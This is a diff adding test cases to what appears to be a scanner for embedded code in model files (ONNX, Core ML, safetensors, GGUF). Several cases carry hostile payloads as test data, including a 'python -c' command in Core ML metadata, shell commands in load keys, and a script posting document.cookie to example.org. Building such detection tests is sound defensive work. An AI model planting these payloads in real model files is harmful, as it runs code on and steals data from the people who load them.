@@ -8,6 +8,8 @@ from collections.abc import Callable
 from typing import Any
 
 from openvet.testing.case import Case
+from openvet.testing.forge_onnx import model as onnx_model
+from openvet.testing.forge_protobuf import message
 from openvet.testing.forge_tensors import gguf, safetensors
 
 __all__ = ["CASES"]
@@ -74,6 +76,12 @@ CASES = (
     _case("safetensors", "metadata of a safetensors file hold code", _tensors({"format": "pt", "init": f"import os; {_PYTHON}"}),
           "reject", "model.safetensors"),
     _case("gguf", "a key of a GGUF file holds a command", _keys(("general.on_load", _SHELL)), "reject", "model.gguf"),
+    _case("onnx", "metadata of an ONNX model hold code", lambda: onnx_model(metadata={"author": "x", "post": _PYTHON}), "reject", "model.onnx"),
+    _case("core-ml", "what the maker of a Core ML model says of it holds a command that hands code to Python",
+          lambda: message("coreml", "Model", {"specificationVersion": 7, "description": {"metadata": {"userDefined": [{"key": "post", "value": f'python -c "{_PYTHON}"'}]}},
+                                              "neuralNetwork": {}}), "reject", "model.mlmodel"),
+    _case("ordinary-onnx", "metadata of an ONNX model name its classes",
+          lambda: onnx_model(metadata={"names": "{0: 'person', 1: 'run()'}", "task": "detect", "args": "{'batch': 1, 'half': False}"}), "admit", "model.onnx"),
     _case("asks", "a configuration holds Python that asks a server", _config({"init": "__import__('urllib.request').request.urlopen('https://example.org/x')"}), "review"),
     _case("page", "metadata of a safetensors file hold the script of a page",
           _tensors({"format": "pt", "html": "<script>fetch('https://example.org', {method: 'POST', body: document.cookie})</script>"}),
